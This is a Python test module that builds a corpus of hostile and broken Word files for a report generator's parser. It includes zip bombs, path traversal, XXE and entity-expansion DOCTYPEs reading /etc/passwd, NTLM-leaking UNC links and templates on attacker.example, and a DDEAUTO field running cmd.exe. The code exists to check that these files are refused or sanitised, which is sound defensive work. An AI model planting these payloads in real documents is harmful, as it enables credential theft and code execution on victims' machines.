"""Hostile and messy Word files, for `split` and for `build --reference-doc` (generated, not stored).

    python tests/hostile_word.py OUTDIR     writes the corpus, for looking at it by hand

Every case starts from one sound document: reportgen's own report of three events, written on a
letterhead with a header (text and a picture) and a footer, so that the same file is a report
for `split` and a бланк for `--reference-doc`. Each case then breaks one thing, and says what
each command must make of it: `split` reads `events` or refuses the file; the letterhead is
used ("ok", perhaps with a part left out and named) or refused with a message naming it. A few cases are
other files given as Word ones (an Office theme, a presentation, an .odt, a workbook): refused, named for
what they are. final_section(), assert_clean_layout() and report_on() check a report on a letterhead as
it must look (tests/test_hostile_word.py, tests/test_real_word.py).
tests/test_hostile_word.py runs every case through the command line.
"""

from __future__ import annotations

import re
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

EVENTS = [
    ("Форум «Россия – Беларусь»", "г. Смоленск", "12 апреля 2025 года", "Обмен опытом", "40 человек"),
    ("Фестиваль «Славянский хоровод»", "г. Вязьма", "13 апреля 2025 года", "Народное творчество", "Коллективы"),
    ("Круглый стол", "г. Смоленск", "20 мая 2025 года", "Сотрудничество", "12 человек"),
]
HEADER_TEXT = "АДМИНИСТРАЦИЯ — БЛАНК"
DOC = "word/document.xml"


@dataclass
class WordCase:
    name: str
    make: Callable[[Path], None]
    split: int | str  # events `split` reads, or "refused" (a clear message, no forms)
    letterhead: str  # "ok": the report is written on it; "refused": a message naming it, no report
    codes: set[str] = field(default_factory=set)  # findings `split` must report
    header_kept: bool = True  # with "ok": the letterhead's header text reaches the report
    links: tuple[str, ...] = ()  # with "ok": targets outside the file, each dropped and named (letterhead-link)
    says: str = ""  # with "refused": what the message must call the file


def _png() -> bytes:
    raw = b"".join(b"\x00" + b"\x20\x40\x80" * 8 for _ in range(8))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def base(path: Path, events=EVENTS) -> None:
    """The sound document: a report of `events` (Вяземский, II квартал 2025) on a letterhead."""
    import docx
    from docx.shared import Cm

    from reportgen.kind import load_kind
    from reportgen.model import Event, Report, Section
    from reportgen.period import Period
    from reportgen.read.letterhead import read_letterhead
    from reportgen.write.report import write_docx

    blank = path.with_name(path.name + ".blank.docx")
    d = docx.Document()
    header = d.sections[0].header
    header.paragraphs[0].text = HEADER_TEXT
    picture = path.with_name(path.name + ".png")
    picture.write_bytes(_png())
    header.add_paragraph().add_run().add_picture(str(picture), width=Cm(1))
    d.sections[0].footer.paragraphs[0].text = "г. Смоленск"
    d.save(str(blank))
    kind = load_kind()
    vyazma = kind.registry.get("Вяземский")
    section = Section(vyazma.section, vyazma.short, tuple(
        Event(i, kind.number_label(i), tuple(e), "форма.xlsx", "Мероприятия", 5 + i) for i, e in enumerate(events, 1)))
    report = Report.of(kind, Period(2025, 2), (section,))
    write_docx(report, kind, path, read_letterhead(blank, blank.name))
    blank.unlink()
    picture.unlink()


def edited(edit: Callable[[str, bytes], bytes | None], method: int = zipfile.ZIP_DEFLATED,
           extra: dict[str, bytes] | None = None, events=EVENTS) -> Callable[[Path], None]:
    """The base document with every member passed through `edit` (None drops it), plus `extra` members."""
    def make(path: Path) -> None:
        src = path.with_name(path.name + ".src")
        base(src, events)
        with zipfile.ZipFile(src) as zin, zipfile.ZipFile(path, "w", method) as zout:
            for info in zin.infolist():
                data = edit(info.filename, zin.read(info.filename))
                if data is not None:
                    zout.writestr(info.filename, data, compress_type=method)
            for name, data in (extra or {}).items():
                zout.writestr(name, data, compress_type=method)
        src.unlink()
    return make


def on(part: str, fn: Callable[[bytes], bytes]) -> Callable[[str, bytes], bytes]:
    return lambda name, data: fn(data) if name == part else data


def _patch(path: Path, member: str, fn: Callable[[bytearray, int, bool], None]) -> None:
    """Patch the raw bytes of a member's local header (fn(raw, at, False)) and central entry (fn(raw, at, True))."""
    raw = bytearray(path.read_bytes())
    name = member.encode()
    for sig, central in ((b"PK\x03\x04", False), (b"PK\x01\x02", True)):
        start = 0
        while (i := raw.find(sig, start)) >= 0:
            name_at = i + (46 if central else 30)
            if raw[name_at:name_at + len(name)] == name:
                fn(raw, i, central)
            start = i + 4
    path.write_bytes(bytes(raw))


def _stored_then(fn: Callable[[Path], None]) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        edited(lambda n, d: d, method=zipfile.ZIP_STORED)(path)
        fn(path)
    return make


def _bad_crc(path: Path) -> None:
    raw = bytearray(path.read_bytes())
    at = raw.find(b"<w:tbl>")  # inside the stored document: the bytes change, the CRC does not
    raw[at + 1] = ord("W")
    path.write_bytes(bytes(raw))


def _bad_deflate(path: Path) -> None:
    edited(lambda n, d: d)(path)
    with zipfile.ZipFile(path) as z:
        info = z.getinfo(DOC)
    raw = bytearray(path.read_bytes())
    start = info.header_offset + 30 + len(DOC.encode()) + len(info.extra)
    for k in range(start + 200, start + 260):
        raw[k] ^= 0xA5
    path.write_bytes(bytes(raw))


def _unknown_method(path: Path) -> None:
    edited(lambda n, d: d)(path)

    def method(raw: bytearray, at: int, central: bool) -> None:
        raw[at + (10 if central else 8):at + (12 if central else 10)] = (99).to_bytes(2, "little")
    _patch(path, DOC, method)


def _shifted(path: Path) -> None:
    edited(lambda n, d: d)(path)

    def offset(raw: bytearray, at: int, central: bool) -> None:
        if central:
            value = int.from_bytes(raw[at + 42:at + 46], "little")
            raw[at + 42:at + 46] = (value + 3).to_bytes(4, "little")
    _patch(path, DOC, offset)


def _lying_sizes(path: Path) -> None:
    """The document inflates to 300 MB while the zip directory says 3 KB."""
    padding = b" " * (300 * 2**20)
    edited(on(DOC, lambda d: d.replace(b"</w:body>", padding + b"</w:body>", 1)))(path)

    def sizes(raw: bytearray, at: int, central: bool) -> None:
        size_at = at + (24 if central else 22)
        raw[size_at:size_at + 4] = (3000).to_bytes(4, "little")
    _patch(path, DOC, sizes)


def _ratio_bomb(path: Path) -> None:
    edited(lambda n, d: d, extra={"word/media/padding.bin": b"\0" * (60 * 2**20)})(path)


def _duplicate(path: Path) -> None:
    import warnings

    edited(lambda n, d: d)(path)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name: that is the point
        with zipfile.ZipFile(path, "a") as z:
            z.writestr(DOC, b'<?xml version="1.0"?><w:document xmlns:w="x"/>')


def _truncated(path: Path) -> None:
    edited(lambda n, d: d)(path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) * 2 // 3])


_REL_BASE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _byte_out(path: Path) -> None:
    """A byte deleted inside the first member: the directory's offsets of every member miss by one («Bad magic
    number for file header»), the main document's too."""
    edited(lambda n, d: d)(path)
    data = path.read_bytes()
    path.write_bytes(data[:40] + data[41:])


def _byte_in(path: Path) -> None:
    """A byte inserted just before the main document: the members before it are misplaced, the document is not."""
    edited(lambda n, d: d)(path)
    with zipfile.ZipFile(path) as z:
        at = z.getinfo(DOC).header_offset
    data = path.read_bytes()
    path.write_bytes(data[:at] + b"\x00" + data[at:])


def _rels_past_end(path: Path) -> None:
    """The package relationships (stored) claim to run past the end of the file: reading them ends in EOFError."""
    edited(lambda n, d: d, method=zipfile.ZIP_STORED)(path)

    def sizes(raw: bytearray, at: int, central: bool) -> None:
        if central:
            for size_at in (at + 20, at + 24):
                raw[size_at:size_at + 4] = (0x00FFFFFF).to_bytes(4, "little")
    _patch(path, "_rels/.rels", sizes)


def _package(main: str, main_type: str, rel_type: str, extra: dict[str, bytes] | None = None) -> Callable[[Path], None]:
    """An Office package that is no Word document: its main part, as Office names it in the content types."""
    def make(path: Path) -> None:
        types = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/'
                 'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
                 'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                 f'<Override PartName="/{main}" ContentType="{main_type}"/></Types>')
        rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
                f'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{rel_type}" '
                f'Target="{main}"/></Relationships>')
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("[Content_Types].xml", types)
            z.writestr("_rels/.rels", rels)
            z.writestr(main, "<x/>")
            for name, data in (extra or {}).items():
                z.writestr(name, data)
    return make


# An Office theme as PowerPoint and Word save it («Сохранить текущую тему»): its office document is a theme
# manager, which points at the theme; there is no document.
THEME = _package("theme/theme/themeManager.xml", "application/vnd.openxmlformats-officedocument.themeManager+xml",
                 f"{_REL_BASE}/officeDocument", {
                     "theme/theme/theme1.xml": b"<a:theme xmlns:a='http://schemas.openxmlformats.org/drawingml/2006/main'/>",
                     "theme/theme/_rels/themeManager.xml.rels": (
                         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
                         f'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{_REL_BASE}/'
                         'theme" Target="theme1.xml"/></Relationships>').encode()})
PRESENTATION = _package("ppt/presentation.xml",
                        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
                        f"{_REL_BASE}/officeDocument")


def _odt(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        z.writestr("content.xml", "<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'/>")


def _xlsx(path: Path) -> None:
    from books import EVENT, book, canonical

    book(path, ("Мероприятия", canonical(EVENT)))


_DOCTYPE = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE w:document [<!ENTITY secret SYSTEM '
            b'"file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>')


def _with_doctype(data: bytes) -> bytes:
    body = data.split(b"?>", 1)[1]
    return _DOCTYPE + body.replace(b"<w:t>", b"<w:t>&d;&secret;", 1)


def _deep(data: bytes) -> bytes:
    nest = b"<w:sdt><w:sdtContent>" * 3000 + b"<w:p/>" + b"</w:sdtContent></w:sdt>" * 3000
    return data.replace(b"<w:body>", b"<w:body>" + nest, 1)


def _body_repeat(data: bytes) -> bytes:
    head = data.split(b"<w:body>", 1)[0]
    return head + b"<w:body " * 40000


def _wrap_rows(open_: bytes, close: bytes) -> Callable[[bytes], bytes]:
    """Every table row after the header inside a wrapper element (content control, custom XML)."""
    def fn(data: bytes) -> bytes:
        first = data.index(b"</w:tr>") + len(b"</w:tr>")  # the header row stays bare
        rest = re.sub(rb"(<w:tr>.*?</w:tr>)", lambda m: open_ + m.group(1) + close, data[first:], flags=re.S)
        return data[:first] + rest
    return fn


def _wrap_cells(data: bytes) -> bytes:
    return re.sub(rb"(<w:tc>.*?</w:tc>)", rb"<w:sdt><w:sdtPr/><w:sdtContent>\1</w:sdtContent></w:sdt>", data, flags=re.S)


def _number_spans_two(data: bytes) -> bytes:
    """The № column is two grid columns wide, its header cell spanning both; every other row keeps two cells."""
    data = re.sub(rb"<w:tblGrid>(<w:gridCol [^>]*/>)", rb"<w:tblGrid>\1\1", data)  # every table's grid
    header_end = data.index(b"</w:tr>")
    first_cell = re.compile(rb"<w:tc><w:tcPr>")
    head = first_cell.sub(b'<w:tc><w:tcPr><w:gridSpan w:val="2"/>', data[:header_end], count=1)
    # Section rows span the whole table: one more column. Event rows get an empty cell after the №.
    rest = re.sub(rb'<w:gridSpan w:val="(\d+)"/>', lambda m: b'<w:gridSpan w:val="%d"/>' % (int(m.group(1)) + 1),
                  data[header_end:])
    rest = re.sub(rb"(<w:tr>(?:<w:trPr>.*?</w:trPr>)?<w:tc>(?:(?!</w:tc>).)*?\d+\.(?:(?!</w:tc>).)*</w:tc>)",
                  rb'\1<w:tc><w:tcPr><w:tcW w:w="10" w:type="dxa"/></w:tcPr><w:p/></w:tc>', rest, flags=re.S)
    return head + rest


def split_table(after: int) -> Callable[[bytes], bytes]:
    """The table broken in two before its `after`-th row past the header, as a page break or a paste leaves it."""
    def fn(data: bytes) -> bytes:
        props = re.search(rb"<w:tbl>(<w:tblPr>.*?</w:tblPr><w:tblGrid>.*?</w:tblGrid>)", data, re.S).group(1)
        starts = [m.start() for m in re.finditer(rb"<w:tr>", data)]
        if after >= len(starts):
            return data
        at = starts[after]
        return data[:at] + b"</w:tbl><w:p/><w:tbl>" + props + data[at:]
    return fn


def two_row_header(data: bytes) -> bytes:
    """The header's cells merged down over a second, empty header row (vMerge), as hand-made tables have them."""
    start = data.index(b"<w:tr>")
    end = data.index(b"</w:tr>", start) + len(b"</w:tr>")
    header = data[start:end]
    top = header.replace(b"<w:tcPr>", b'<w:tcPr><w:vMerge w:val="restart"/>')
    cells = re.findall(rb"<w:tc><w:tcPr>(<w:tcW [^>]*/>)", header)
    bottom = b"<w:tr>" + b"".join(b"<w:tc><w:tcPr>" + w + b"<w:vMerge/></w:tcPr><w:p/></w:tc>" for w in cells) + b"</w:tr>"
    return data[:start] + top + bottom + data[end:]


def wrap_rows_in_content_controls(data: bytes) -> bytes:
    return _wrap_rows(b"<w:sdt><w:sdtPr/><w:sdtContent>", b"</w:sdtContent></w:sdt>")(data)


def wrap_rows_in_custom_xml(data: bytes) -> bytes:
    return _wrap_rows(b'<w:customXml w:element="row">', b"</w:customXml>")(data)


# In the order they apply: the reshaping of the grid first, the wrappers around rows and cells last.
TRANSFORMS = {"№ over two grid columns": _number_spans_two, "header over two rows": two_row_header,
              "cells in content controls": _wrap_cells, "rows in content controls": wrap_rows_in_content_controls,
              "rows in custom XML": wrap_rows_in_custom_xml}


def _huge_span(data: bytes) -> bytes:
    return re.sub(rb'<w:gridSpan w:val="\d+"/>', b'<w:gridSpan w:val="2000000000"/>', data, count=1)


def _wide(data: bytes) -> bytes:
    """10,000 more grid columns, and as many empty cells on the header row (once quadratic: 23 s)."""
    extra_col = b'<w:gridCol w:w="10"/>' * 10_000
    extra_cell = b'<w:tc><w:tcPr><w:tcW w:w="10" w:type="dxa"/></w:tcPr><w:p/></w:tc>' * 10_000
    data = data.replace(b"</w:tblGrid>", extra_col + b"</w:tblGrid>", 1)
    return data.replace(b"</w:tc></w:tr>", b"</w:tc>" + extra_cell + b"</w:tr>", 1)


LONG = "Очень длинное описание мероприятия. " * 1200  # 43,200 characters: more than an Excel cell holds


def _rels_of(part: str) -> str:
    folder, base_ = part.rsplit("/", 1)
    return f"{folder}/_rels/{base_}.rels"


def _dangling_header(name: str, data: bytes) -> bytes | None:
    return None if re.fullmatch(r"word/header\d+\.xml", name) else data


def _dangling_picture(name: str, data: bytes) -> bytes | None:
    return None if name.startswith("word/media/") else data


def _absolute_names(path: Path) -> None:
    src = path.with_name(path.name + ".src")
    base(src)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr("/" + info.filename, zin.read(info.filename))
    src.unlink()


HEADER = "word/header1.xml"
FOOTER = "word/footer1.xml"
SETTINGS = "word/settings.xml"
UNC = "file://///attacker.example/share/pixel.png"  # Word fetches it on open: and sends the user's NTLM login
HTTP = "http://attacker.example/pixel.png"
PAGE_URL = "https://attacker.example/login"
TEMPLATE = "file://///attacker.example/share/Normal.dotm"
MERGE_SOURCE = r"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\attacker.example\share\data.xlsx"
FIELD = r'INCLUDEPICTURE "\\\\attacker.example\\share\\field.png" \d'
DDE = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _with_rels(part: str, *rels: tuple[str, str, str]) -> Callable[[str, bytes], bytes]:
    """Relationships (id, type, target) outside the package added to `part`'s relationships part."""
    items = "".join(f'<Relationship Id="{rid}" Type="{_REL}/{kind}" Target="{target}" TargetMode="External"/>'
                    for rid, kind, target in rels).encode()

    def fn(name: str, data: bytes) -> bytes:
        return data.replace(b"</Relationships>", items + b"</Relationships>") if name == _rels_of(part) else data
    return fn


def _then(*edits: Callable[[str, bytes], bytes]) -> Callable[[str, bytes], bytes]:
    def fn(name: str, data: bytes) -> bytes:
        for edit in edits:
            data = edit(name, data)
        return data
    return fn


def _drawing(data: bytes) -> bytes:
    return re.search(rb"<w:p><w:r><w:drawing>.*?</w:drawing></w:r></w:p>", data, re.S).group(0)


def _linked_picture(data: bytes) -> bytes:
    """A second picture in the header, linked to a file on a share (Word's «Связать с файлом»)."""
    linked = _drawing(data).replace(b'r:embed="rId1"', b'r:link="rIdUnc"')
    return data.replace(b"</w:hdr>", linked + b"</w:hdr>")


def _vml_and_both(data: bytes) -> bytes:
    """A VML picture from a web address, and the header's picture both embedded and linked («Вставить и связать»)."""
    vml = (b'<w:p><w:r><w:pict><v:shape id="p1" style="width:10pt;height:10pt"><v:imagedata r:id="rIdWeb"/>'
           b'</v:shape></w:pict></w:r></w:p>')
    data = data.replace(b'r:embed="rId1"', b'r:embed="rId1" r:link="rIdWeb"')
    return data.replace(b"</w:hdr>", vml + b"</w:hdr>")


def _hyperlinked(data: bytes) -> bytes:
    """The header's text and its picture are links to a web page."""
    data = re.sub(rb"(<w:r><w:t>[^<]*</w:t></w:r>)", rb'<w:hyperlink r:id="rIdPage">\1</w:hyperlink>', data, count=1)
    return data.replace(b'<wp:docPr id="1" name="Picture 1"/>',
                        b'<wp:docPr id="1" name="Picture 1"><a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/'
                        b'drawingml/2006/main" r:id="rIdPage"/></wp:docPr>')


def _template_and_merge(data: bytes) -> bytes:
    """Settings with an attached template on a share and a mail merge from a workbook there."""
    merge = (b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/><w:connectString w:val="'
             + MERGE_SOURCE.encode() + b'"/><w:query w:val="SELECT * FROM `x`"/></w:mailMerge>')
    return re.sub(rb"(<w:settings [^>]*>)", lambda m: m.group(1) + b'<w:attachedTemplate r:id="rIdTpl"/>' + merge,
                  data, count=1)


def _fields(data: bytes) -> bytes:
    """The footer fetches a picture through a field and runs a program through DDEAUTO."""
    complex_ = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
                + FIELD.encode() + b' </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
                + "<w:r><w:t>герб</w:t></w:r>".encode() + b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    simple = (b'<w:p><w:fldSimple w:instr=" ' + DDE.replace('"', "&quot;").encode()
              + b' "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')
    return data.replace(b"</w:ftr>", complex_ + simple + b"</w:ftr>")


def _last_section(edit: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    """`edit` applied to the document's final section properties only."""
    def fn(data: bytes) -> bytes:
        at = data.rindex(b"<w:sectPr")
        return data[:at] + edit(data[at:])
    return fn


TWO_COLUMNS = _last_section(lambda d: re.sub(rb"<w:cols [^>]*/>", b'<w:cols w:num="2" w:sep="1" w:space="720"/>', d))
# Right to left, as an Arabic or Hebrew template has it (the elements in the schema's order: before docGrid).
RIGHT_TO_LEFT = _last_section(lambda d: d.replace(b"<w:docGrid", b"<w:bidi/><w:rtlGutter/><w:docGrid", 1))


def normal_style(ppr: bytes) -> Callable[[bytes], bytes]:
    """The letterhead's Normal style given paragraph properties, as Russian office templates have them."""
    def fn(data: bytes) -> bytes:
        return re.sub(rb'(<w:style w:type="paragraph" w:default="1" w:styleId="Normal">.*?)(</w:style>)',
                      lambda m: m.group(1) + b"<w:pPr>" + ppr + b"</w:pPr>" + m.group(2), data, count=1, flags=re.S)
    return fn


# «Красная строка»: a first-line indent of 1.25 cm, one and a half lines, justified.
RED_LINE = normal_style(b'<w:spacing w:before="120" w:after="240" w:line="360" w:lineRule="auto"/>'
                        b'<w:ind w:firstLine="709"/><w:jc w:val="both"/>')
HANGING = normal_style(b'<w:ind w:left="1134" w:hanging="1134"/>')
NORMAL_RTL = normal_style(b'<w:bidi/><w:jc w:val="right"/>')
STYLES = "word/styles.xml"
# Letterhead layouts that must not reach the report's table (tests/test_hostile_word.py checks the PDF Writer makes).
LAYOUTS = ("two-columns.docx", "right-to-left.docx", "red-line.docx", "hanging-indent.docx", "normal-rtl.docx")


# Transitional → Strict, as Word's «Строгий Open XML» saves (the specific names first).
_TO_STRICT = (
    ("http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties",
     "http://purl.oclc.org/ooxml/officeDocument/relationships/extendedProperties"),
    ("http://schemas.openxmlformats.org/officeDocument/2006/extended-properties",
     "http://purl.oclc.org/ooxml/officeDocument/extendedProperties"),
    ("http://schemas.openxmlformats.org/officeDocument/2006/", "http://purl.oclc.org/ooxml/officeDocument/"),
    ("http://schemas.openxmlformats.org/drawingml/2006/", "http://purl.oclc.org/ooxml/drawingml/"),
    ("http://schemas.openxmlformats.org/wordprocessingml/2006/", "http://purl.oclc.org/ooxml/wordprocessingml/"),
)


def strict(name: str, data: bytes) -> bytes:
    """A part as a Strict OOXML package has it: the same vocabularies under purl.oclc.org names."""
    if not name.endswith((".xml", ".rels")):
        return data
    for plain, strict_ in _TO_STRICT:
        data = data.replace(plain.encode(), strict_.encode())
    return data


def cases() -> list[WordCase]:
    """Every case, not yet written (their names serve as test ids)."""
    return [
        WordCase("ok.docx", base, 3, "ok"),
        # the zip itself
        WordCase("bad-crc.docx", _stored_then(_bad_crc), "refused", "refused"),
        WordCase("bad-deflate.docx", _bad_deflate, "refused", "refused"),
        WordCase("unknown-method.docx", _unknown_method, "refused", "refused"),
        WordCase("shifted-member.docx", _shifted, "refused", "refused"),
        WordCase("lying-sizes.docx", _lying_sizes, "refused", "refused"),
        WordCase("ratio-bomb.docx", _ratio_bomb, "refused", "refused"),
        WordCase("bzip2.docx", edited(lambda n, d: d, method=zipfile.ZIP_BZIP2), "refused", "refused"),
        WordCase("duplicate-member.docx", _duplicate, "refused", "refused"),
        WordCase("climbing-member.docx", edited(lambda n, d: d, extra={"../../evil.xml": b"<x/>"}), "refused", "refused"),
        WordCase("truncated.docx", _truncated, "refused", "refused"),
        WordCase("absolute-names.docx", _absolute_names, 3, "ok"),
        # files that are no Word document, named for what they are
        WordCase("theme.thmx", THEME, "refused", "refused", says="тема оформления Office"),
        WordCase("slides.pptx", PRESENTATION, "refused", "refused", says="презентация PowerPoint, а не документ Word"),
        WordCase("text.odt", _odt, "refused", "refused", says="текстовый документ OpenDocument"),
        WordCase("table.xlsx", _xlsx, "refused", "refused", says="таблица, а не документ Word"),
        WordCase("byte-deleted.docx", _byte_out, 3, "ok"),
        WordCase("byte-inserted.docx", _byte_in, 3, "ok", header_kept=False),
        WordCase("rels-past-end.docx", _rels_past_end, 3, "ok"),
        # the main document's XML
        WordCase("doctype.docx", edited(on(DOC, _with_doctype)), "refused", "refused"),
        WordCase("deep-nesting.docx", edited(on(DOC, _deep)), "refused", "refused"),
        WordCase("body-repeat.docx", edited(on(DOC, _body_repeat)), "refused", "refused"),
        # the letterhead's other parts: the report is written without what is broken
        WordCase("styles-doctype.docx", edited(on("word/styles.xml", _with_doctype)), 3, "ok"),
        WordCase("styles-broken.docx", edited(on("word/styles.xml", lambda d: d[: len(d) // 2])), 3, "ok"),
        WordCase("content-types-broken.docx", edited(on("[Content_Types].xml", lambda d: b"<Types")), 3, "ok"),
        WordCase("document-rels-broken.docx", edited(on(_rels_of(DOC), lambda d: b"<Relationships><")), 3, "ok",
                 header_kept=False),
        WordCase("package-rels-broken.docx", edited(on("_rels/.rels", lambda d: b"\x00\x01")), 3, "ok"),
        WordCase("dangling-header.docx", edited(_dangling_header), 3, "ok", header_kept=False),
        WordCase("dangling-picture.docx", edited(_dangling_picture), 3, "ok", header_kept=False),
        WordCase("header-broken.docx", edited(lambda n, d: d[:40] if re.fullmatch(r"word/header\d+\.xml", n) else d),
                 3, "ok", header_kept=False),
        # the report's table, as Word and other programs shape it
        WordCase("rows-in-content-controls.docx",
                 edited(on(DOC, _wrap_rows(b"<w:sdt><w:sdtPr/><w:sdtContent>", b"</w:sdtContent></w:sdt>"))), 3, "ok"),
        WordCase("rows-in-custom-xml.docx",
                 edited(on(DOC, _wrap_rows(b'<w:customXml w:element="row">', b"</w:customXml>"))), 3, "ok"),
        WordCase("cells-in-content-controls.docx", edited(on(DOC, _wrap_cells)), 3, "ok"),
        WordCase("number-spans-two.docx", edited(on(DOC, _number_spans_two)), 3, "ok"),
        WordCase("huge-span.docx", edited(on(DOC, _huge_span)), 3, "ok"),
        WordCase("wide-table.docx", edited(on(DOC, _wide)), 3, "ok"),
        # links out of the letterhead: dropped with what refers to them, each named (letterhead-link)
        WordCase("linked-picture-unc.docx", edited(_then(on(HEADER, _linked_picture),
                                                         _with_rels(HEADER, ("rIdUnc", "image", UNC))), events=EVENTS),
                 3, "ok", links=(UNC,)),
        WordCase("linked-picture-http.docx", edited(_then(on(HEADER, _vml_and_both),
                                                          _with_rels(HEADER, ("rIdWeb", "image", HTTP))), events=EVENTS),
                 3, "ok", links=(HTTP,)),
        WordCase("header-hyperlink.docx", edited(_then(on(HEADER, _hyperlinked),
                                                       _with_rels(HEADER, ("rIdPage", "hyperlink", PAGE_URL)))),
                 3, "ok", links=(PAGE_URL,)),
        WordCase("attached-template.docx", edited(on(SETTINGS, _template_and_merge), extra={_rels_of(SETTINGS): (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.'
            f'org/package/2006/relationships"><Relationship Id="rIdTpl" Type="{_REL}/attachedTemplate" '
            f'Target="{TEMPLATE}" TargetMode="External"/></Relationships>').encode()}), 3, "ok",
                 links=(TEMPLATE, MERGE_SOURCE)),
        WordCase("outward-fields.docx", edited(on(FOOTER, _fields)), 3, "ok", links=(FIELD, DDE)),
        WordCase("strict.docx", edited(strict), 3, "ok"),
        # letterhead layouts: the report's section is one column, left to right; its paragraphs set their own indent
        WordCase("two-columns.docx", edited(on(DOC, TWO_COLUMNS)), 3, "ok"),
        WordCase("right-to-left.docx", edited(on(DOC, RIGHT_TO_LEFT)), 3, "ok"),
        WordCase("red-line.docx", edited(on(STYLES, RED_LINE)), 3, "ok"),
        WordCase("hanging-indent.docx", edited(on(STYLES, HANGING)), 3, "ok"),
        WordCase("normal-rtl.docx", edited(on(STYLES, NORMAL_RTL)), 3, "ok"),
        WordCase("long-cell.docx", edited(lambda n, d: d, events=[(*EVENTS[0][:3], LONG, EVENTS[0][4]), *EVENTS[1:]]),
                 3, "ok", codes={"cell-shortened"}),
    ]


def final_section(docx_path: Path) -> str:
    import zipfile

    with zipfile.ZipFile(docx_path) as z:
        document = z.read("word/document.xml").decode("utf-8")
    return document[document.rindex("<w:sectPr"):]


def assert_clean_layout(pdf_text: str, section: str, name: str) -> None:
    """One column, left to right, no inherited indent: what a report on any letterhead must look like.

    `pdf_text` is pdftotext -layout of the report of EVENTS; `section` its final w:sectPr.
    """
    columns = re.search(r'<w:cols [^>]*w:num="(\d+)"', section)
    assert columns is None or columns.group(1) == "1", (name, section)
    assert "<w:bidi" not in section and "rtlGutter" not in section, (name, section)
    lines = pdf_text.splitlines()
    for number, event in enumerate(EVENTS, start=1):
        # «1.» whole, left of the event's name on its line: not broken by an indent, not mirrored («.1»)
        first = event[0].split()[0]
        assert any(re.match(rf"\s*{number}\.\s+.*{first}", line) for line in lines), (name, number, pdf_text)
        for word in re.findall(r"\w{4,}", " ".join(event)):  # no word broken in the narrow columns
            assert re.search(rf"(?<!\w){word}(?!\w)", pdf_text), (name, word, pdf_text)


def report_on(letterhead: Path, out: Path) -> None:
    """The report of EVENTS written on `letterhead`, as build --reference-doc writes it."""
    from reportgen.kind import load_kind
    from reportgen.model import Event, Report, Section
    from reportgen.period import Period
    from reportgen.read.letterhead import read_letterhead
    from reportgen.write.report import write_docx

    kind = load_kind()
    vyazma = kind.registry.get("Вяземский")
    section = Section(vyazma.section, vyazma.short, tuple(
        Event(i, kind.number_label(i), tuple(e), "форма.xlsx", "Мероприятия", 5 + i)
        for i, e in enumerate(EVENTS, 1)))
    write_docx(Report.of(kind, Period(2025, 2), (section,)), kind, out, read_letterhead(letterhead, letterhead.name))


def corpus(folder: Path) -> list[WordCase]:
    folder.mkdir(parents=True, exist_ok=True)
    made = cases()
    for case in made:
        case.make(folder / case.name)
    return made


if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).parent))
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-word")
    for c in corpus(out):
        print(f"{c.name:34} split: {c.split!s:8} letterhead: {c.letterhead}")
